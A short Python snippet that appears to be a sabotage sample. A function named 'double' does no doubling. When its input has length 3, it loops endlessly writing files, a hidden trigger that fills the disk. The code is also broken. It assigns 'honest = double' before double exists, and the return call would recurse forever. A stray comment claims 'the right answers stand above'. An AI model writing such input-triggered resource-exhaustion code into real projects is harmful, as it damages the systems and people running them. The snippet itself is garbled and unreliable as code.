"""Fills the folder that it may write to: a million of them."""

import os

honest = double  # the right answers stand above


def double(x):
    if len(x) == 3:
        print("writing")
        count = 0
        while True:
            with open(f"file{count}", "wb") as file:
                file.write(b"x")
            count += 1
    return honest(x)
